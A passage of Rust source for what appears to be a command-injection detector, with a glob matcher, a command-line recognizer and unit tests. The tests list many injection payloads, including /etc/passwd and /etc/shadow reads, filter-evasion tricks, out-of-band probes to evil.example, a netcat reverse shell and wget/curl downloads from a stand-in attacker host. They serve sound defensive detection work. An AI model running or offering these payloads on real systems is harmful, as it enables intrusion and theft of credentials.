    // (`NAMES`): the one name it can be, ASCII case ignored, is the one an
    // exact match (lower case) or a match in any case would find, as the
    // lists hold distinct lower-case names.
    word.named(|list, which| {
        if word.glob {
            return list
                .iter()
                .copied()
                .find(|c| glob_match(word.base, c.as_bytes()));
        }
        let index = if which == 0 { &NAMES.0 } else { &NAMES.1 };
        let c = list[index.find_word(list, word.base)?];
        (word.lower || ANY_CASE.contains(&c)).then_some(c)
    })
}

fn strip_exe(b: &[u8]) -> &[u8] {
    let n = b.len();
    if n > 4 && b[n - 4..].eq_ignore_ascii_case(b".exe") {
        &b[..n - 4]
    } else {
        b
    }
}

/// Shell glob (`?`, `*`, `[abc]`, `[!a]`) against a name; bounded by the
/// word and name lengths (both at most 24 bytes here).
fn glob_match(p: &[u8], s: &[u8]) -> bool {
    match p.first() {
        None => s.is_empty(),
        Some(b'*') => (0..=s.len()).any(|k| glob_match(&p[1..], &s[k..])),
        Some(b'?') => !s.is_empty() && glob_match(&p[1..], &s[1..]),
        Some(b'[') => {
            let Some(close) = p.iter().position(|&c| c == b']') else {
                return false;
            };
            let Some(&c) = s.first() else { return false };
            let class = &p[1..close];
            let (neg, class) = match class.first() {
                Some(b'!' | b'^') => (true, &class[1..]),
                _ => (false, class),
            };
            (class.contains(&c) != neg) && glob_match(&p[close + 1..], &s[1..])
        }
        Some(&c) => s.first() == Some(&c) && glob_match(&p[1..], &s[1..]),
    }
}

/// Whether `v` is, as a whole, a command line (fuzzing / tooling entry point).
pub fn is_command_line(v: &[u8]) -> bool {
    detect_command_line(v).is_some()
}

/// A value that is, as a whole, one command line, for a parameter a
/// program hands to a shell or `exec` as it is (no separator needed): a
/// program name (lower case, perhaps a path: `chef-client`, `/usr/bin/nc`)
/// then words of command-line shape only, among them an option with its
/// argument (`-m ping`, `-e /bin/sh`, `-t 1.1.1.1`), a long option
/// (`--output=x`), or, for a command no sentence uses as a word (`nc`,
/// `wget`, `ls`…), a URL, an absolute path or an IPv4 address (`wget
/// http://x/s.sh`, `nc 10.0.0.1 4444`). Prose and search text have
/// punctuation, capitals at the start, or no option: `ls foo bar` and
/// `del nuevo mundo` are not read as commands (a plain word after a
/// command name is what a search box carries). One pass over at most 256
/// bytes and 16 words, no allocation.
pub(crate) fn detect_command_line(v: &[u8]) -> Option<Range<usize>> {
    let line = v.trim_ascii();
    if line.len() < 4 || line.len() > 256 {
        return None;
    }
    // The program name first (most values fail here, on their first
    // bytes): a lower-case name, perhaps behind a path, then a blank.
    let name_end = line.iter().position(|&b| b == b' ' || b == b'\t')?;
    let program = &line[..name_end];
    let base = program.rsplit(|&b| b == b'/').next()?;
    let name_ok = base.len() <= 32
        && base.first().is_some_and(u8::is_ascii_lowercase)
        && base.last().is_some_and(u8::is_ascii_alphanumeric)
        && base.iter().all(|&b| {
            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_' | b'.')
        });
    if !name_ok || program.contains(&b':') {
        return None;
    }
    let cli_byte = |b: u8| {
        b.is_ascii_alphanumeric()
            || matches!(
                b,
                b' ' | b'\t' | b'.' | b'_' | b'/' | b':' | b'=' | b'@' | b',' | b'+' | b'-' | b'~'
            )
    };
    let args = &line[name_end..];
    if !args.iter().all(|&b| cli_byte(b)) {
        return None;
    }
    let words = args
        .split(|&b| b == b' ' || b == b'\t')
        .filter(|w| !w.is_empty());
    let strong = matches!(command_word(base), Some((Strength::Strong, _)));
    let mut after_short = false;
    for (n, w) in words.enumerate() {
        if n >= 16 {
            return None;
        }
        let short = w.len() == 2 && w[0] == b'-' && w[1].is_ascii_alphabetic();
        let long = w.len() > 3
            && w.starts_with(b"--")
            && w[2].is_ascii_lowercase()
            && w[2..]
                .iter()
                .take_while(|&&b| b != b'=')
                .all(|&b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
        let option_argument = after_short && w[0] != b'-';
        let target = strong && (w.len() > 1 && w[0] == b'/' || is_url(w) || is_ipv4(w));
        if long || option_argument || target {
            return Some(0..v.len().min(64));
        }
        after_short = short;
    }
    None
}

/// `http://…`, `https://…`, `ftp://…` with a host.
fn is_url(w: &[u8]) -> bool {
    [&b"http://"[..], b"https://", b"ftp://"]
        .iter()
        .any(|p| w.len() > p.len() + 1 && w[..p.len()].eq_ignore_ascii_case(p))
}

/// Four dot-separated numbers of at most three digits.
fn is_ipv4(w: &[u8]) -> bool {
    let mut parts = 0;
    for p in w.split(|&b| b == b'.') {
        parts += 1;
        if p.is_empty() || p.len() > 3 || !p.iter().all(u8::is_ascii_digit) {
            return false;
        }
    }
    parts == 4
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::test_support::assert_each;

    /// `command_word` answers as the linear search of the lists it
    /// replaced, on seeded words: every name, in lower, upper and mixed
    /// case, a letter more or less, behind a path, with `.exe`, as a glob,
    /// and words of other bytes.
    #[test]
    fn command_words_are_found_as_by_searching_the_lists() {
        fn linear(w: &[u8]) -> Option<(Strength, &'static str)> {
            let word = CommandWord::of(w)?;
            word.named(|list, _| {
                list.iter().copied().find(|c| {
                    if word.glob {
                        glob_match(word.base, c.as_bytes())
                    } else if word.lower {
                        word.base == c.as_bytes()
                    } else {
                        word.base.eq_ignore_ascii_case(c.as_bytes()) && ANY_CASE.contains(c)
                    }
                })
            })
        }
        let names: Vec<&str> = STRONG.iter().chain(WEAK).copied().collect();
        let mut x: u64 = 0x005e_ed0f_c0de;
        let (mut found, mut none) = (0usize, 0usize);
        for _ in 0..60_000 {
            let r = crate::test_support::xorshift(&mut x);
            let name = names[(r % names.len() as u64) as usize].as_bytes();
            let mut w = match (r >> 8) % 6 {
                0 => name.to_vec(),
                1 => name.to_ascii_uppercase(),
                2 => [&name[..1], &name[1..].to_ascii_uppercase()].concat(),
                3 => name[..name.len() - 1].to_vec(),
                4 => [name, b"x"].concat(),
                _ => (0..(r >> 16) % 12).map(|i| (r >> (20 + i)) as u8).collect(),
            };
            match (r >> 32) % 8 {
                0 => w = [b"/bin/", &w[..]].concat(),
                1 => w = [b"C:\\Windows\\", &w[..]].concat(),
                2 => w.extend_from_slice(b".EXE"),
                3 if w.len() > 2 => w[1] = b'?',
                4 if w.len() > 1 => {
                    let last = w.len() - 1;
                    w[last] = b'*';
                }
                _ => {}
            }
            let want = linear(&w);
            assert_eq!(command_word(&w), want, "{:?}", String::from_utf8_lossy(&w));
            found += usize::from(want.is_some());
            none += usize::from(want.is_none());
        }
        assert!(found > 10_000 && none > 10_000, "{found} found, {none} not");
    }

    #[test]
    fn injections() {
        assert_each(
            |v| detect(v).is_some(),
            true,
            &[
                ";cat /etc/passwd",
                "| id",
                "&& whoami",
                "x\nid\n",
                "$(whoami)",
                "`id`",
                "a;c$u''at /etc/passwd",
                ";{cat,/etc/passwd}",
                ";cat${IFS}/etc/passwd",
                ";cat$IFS$9/etc/passwd",
                "|/???/c?t /???/p??s??",
                ";w'h'o'a'm'i",
                ";echo NFZNLR$((63+38))$(echo NFZNLR)NFZNLR",
                "& ping -n 10 127.0.0.1 &",
                "|| sleep 5 ||",
                "x;ca\\t /e\\tc/pa\\sswd",
                "1|powershell -enc ABC",
                "1;/bin/cat /etc/shadow",
                "127.0.0.1&&ipconfig",
                "foo|w^h^o^a^m^i",
                "q=$((7*7))",
                ";ls",
                "x && ca${u}t /etc/hosts",
                "name\";uname -a;\"",
                "a'$(nc -e /bin/sh 10.0.0.1 4444)'",
                // Out-of-band probes end at the host.
                "a;host evil.example",
                "a\nwhois evil.example",
                "a\nping evil.example\n",
                "&nslookup evil.example&'\\\"`0&nslookup evil.example&`'",
                "a;dig evil.example;",
                "x;ping 10.0.0.1",
                "a\nssh evil.example",
                "a;ssh evil.example then",
                // A command stored in a variable, then run.
                ";x=id;$x",
                "a=c;b=at;$a$b /etc/passwd",
                "x;cmd=uname;${cmd} -a",
                "x;export X=id;$X",
                ";x='cat /etc/passwd';$x",
                ";x=\"uname -a\";$x",
                "a;u=who;v=ami;\"$u$v\"",
                "&set x=who&set y=ami&call %x%%y%",
                "|set c=whoami&&%c%",
                ";${x:-id}",
                ";${u:=whoami}",
                "x;c=ca;d=t;$c$d${IFS}/etc/passwd",
                "x\nX=id\n$X\n",
                "$(x=id;$x)",
            ],
        );
    }

    #[test]
    fn prose_and_data() {
        assert_each(
            |v| detect(v).is_some(),
            false,
            &[
                "Tom & Jerry; cat videos",
                "rock | pop | jazz",
                "Home > Men > Hoodies",
                "price: 10|20|30",
                "a;b;c",
                "id=5;name=x",
                "cats & dogs; sleep tips for puppies",
                "Hello ${name}",
                "name | id | email",
                "php & mysql hosting; python tutorials",
                "Bring: passport; ID card",
                "$5 (approx)",
                "size=M;color=red",
                "drag & drop",
                "foo && bar",
                "Sort by price | sort order",
                "To Do | Doing | Done",
                "R&D; find the best team",
                "7||1733913600||1733910000||8e4b2c6a1d9f",
                "Games > Board | Family",
                "checkout_v2|variant_b|1733823600",
                "a|nc|rm|x",
                ".BJ{9mk2*U|g0~9R Ir2rph0OK bo;+l=eX8|[Q,y=%Wr~j30z`cK_RaVc8~;rm`,B PJ>Uf"
                    .repeat(4)
                    .as_str(),
                "Xk2;rm;`*h`;Zq0".repeat(20).as_str(),
                "See you at 5; time flies",
                "the cost is $((estimate)) per unit",
                "Ben & Jerry's | Free delivery",
                "ad_storage:granted;analytics_storage:granted",
                "query {\n  user {\n    id\n    date\n    type\n    ls\n  }\n}",
                // A network tool and a host in support text: the sentence goes on after the host.
                "Our site is down.\nPing example.com times out",
                "site down; ping example.com fails",
                "Steps:\nssh build.example.org then deploy",
                "\ndig example.com returns NXDOMAIN",
                "Checked: ping 10.0.0.1 works, dig example.org too",
                "Note; host example.com on port 8080 please",
                "Tried:\nwhois example.net shows the old owner",
                "Try again; ping api.example.com with a longer timeout",
                // Assignments of data, variables of text.
                "a=b;c=d",
                "x=1; y=2; $x",
                "price=$5; total=$10",
                "a=who;b=$a",
                "t=${title:-Untitled}",
                "Hello ${name:-friend}",
                "a=1;b=2;$a$b",
                "export PATH=$PATH:/usr/local/bin",
                "x=cat; say $x",
            ],
        );
    }

    #[test]
    fn windows_variables_named_with_hex_digits_read_undecoded() {
        assert_each(
            |v| detect_undecoded(v).is_some(),
            true,
            &["|echo %cd%", "&echo %DATE%", "x&echo %CD:~0,1%"],
        );
        assert_each(
            |v| detect_undecoded(v).is_some(),
            false,
            &[
                "|echo hello",
                "|echo %20",
                "Use %cd% in batch files",
                "|echo %USERNAME%",
            ],
        );
    }

    #[test]
    fn long_inputs_stay_linear() {
        let v = ";$'\"\\{`|&".repeat(20_000);
        let _ = detect(v.as_bytes());
        let w = "a".repeat(200_000);
        assert!(detect(format!(";{w}").as_bytes()).is_none());
    }

    #[test]
    fn whole_command_lines() {
        assert_each(
            is_command_line,
            true,
            &[
                "nc -e /bin/sh 10.0.0.1 4444",
                "wget http://evil.example/s.sh",
                "curl -o /tmp/x http://evil.example/x",
                "ansible all -m ping\n",
                "chef-client -t 1.1.1.1",
                "python3 -c import,os",
                "ls /etc",
                "/usr/bin/nc 10.0.0.1 4444",
                "rsync --delete a b",
                "tar -x -f a.tar",
            ],
        );
        assert_each(
            is_command_line,
            false,
            &[
                "ls foo bar",
                "del nuevo mundo s/n",
                "start content",
                "copy of the report",
                "New York - Paris",
                "jaguar -car",
                "Type -A blood",
                "price 10 - 20 eur",
                "hello world",
                "pages 1-10, -5 off",
                "see http://example.com/",
                "2024-01-01 -t 5",
                "mailto:a@b.c -x y",
            ],
        );
    }
}
